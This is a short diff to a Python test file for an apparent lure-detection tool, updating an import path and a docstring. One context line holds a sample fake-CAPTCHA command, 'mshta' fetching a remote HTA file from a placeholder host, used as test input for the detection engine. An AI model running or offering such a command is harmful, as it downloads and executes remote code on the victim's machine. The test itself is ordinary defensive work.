@@ -16,7 +16,7 @@ from app.guard.drops import sign_in_code_url
 from app.intel.lists import IntelLists, IntelMatcher
 from app.intel.report import ReportError, rule_file_from_report
 from app.intel.rulefile import read_lists
-from ui.report import report_document
+from ui.warning.report import report_document
 
 MATCHER = IntelMatcher(
     IntelLists(
@@ -75,7 +75,7 @@ def test_from_report_reads_any_report_without_raising(
 
 
 def test_a_report_as_the_warning_writes_it_becomes_a_working_rule(tmp_path: Path) -> None:
-    """The seam: ui/report.py's document from a real verdict, through from-report, into rules."""
+    """The seam: ui/warning/report.py's document from a real verdict, through from-report, into rules."""
     lure = "mshta https://payload.lure-cdn.example/verify.hta   # I am not a robot - ID 4471"
     engine = Engine()
     verdict = engine.analyze(
